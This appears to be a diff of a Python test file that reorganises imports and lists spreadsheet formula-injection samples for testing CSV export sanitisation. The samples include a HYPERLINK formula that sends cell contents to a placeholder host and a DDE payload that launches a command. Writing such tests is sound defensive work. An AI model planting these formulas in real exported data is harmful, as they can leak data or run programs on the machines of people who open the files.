@@ -11,10 +11,10 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from labkit.dataset import Dataset
+from labkit.datasets.csv_export import inert, is_formula
+from labkit.datasets.dataset import Dataset
+from labkit.datasets.record import QA, Evidence
 from labkit.errors import DatasetError
-from labkit.record import QA, Evidence
-from labkit.spreadsheet import inert, is_formula
 
 FORMULAS = [
     "=1+1", '=HYPERLINK("http://x.example/?"&A1,"click")', "@SUM(A1:A9)", "+A1", "-A1", "-SUM(1)", "=cmd|'/C calc'!A0",
